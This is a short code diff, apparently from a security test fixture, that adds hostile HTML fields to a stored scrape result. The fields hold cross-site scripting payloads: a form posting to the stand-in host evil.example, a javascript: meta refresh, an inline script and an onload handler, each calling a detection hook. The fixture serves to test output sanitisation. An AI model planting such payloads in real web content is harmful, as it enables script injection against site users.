@@ -61,6 +61,8 @@ export function storeHostileRun(db: string): { runId: number; url: string; stepI
           creditsUsed: 1,
           document: {
             markdown,
+            html: `<p>${PAYLOADS.join("</p><p>")}</p><form action="https://evil.example/"><input name="q"></form><meta http-equiv="refresh" content="0;url=javascript:window.xssHit('refresh')">`,
+            rawHtml: `<html><head><script>window.parent.xssHit('raw')</script></head><body onload="window.parent.xssHit('onload')"></body></html>`,
             links,
             summary: PAYLOADS[1],
             json: { name: PAYLOADS[0], html: PAYLOADS[2] },
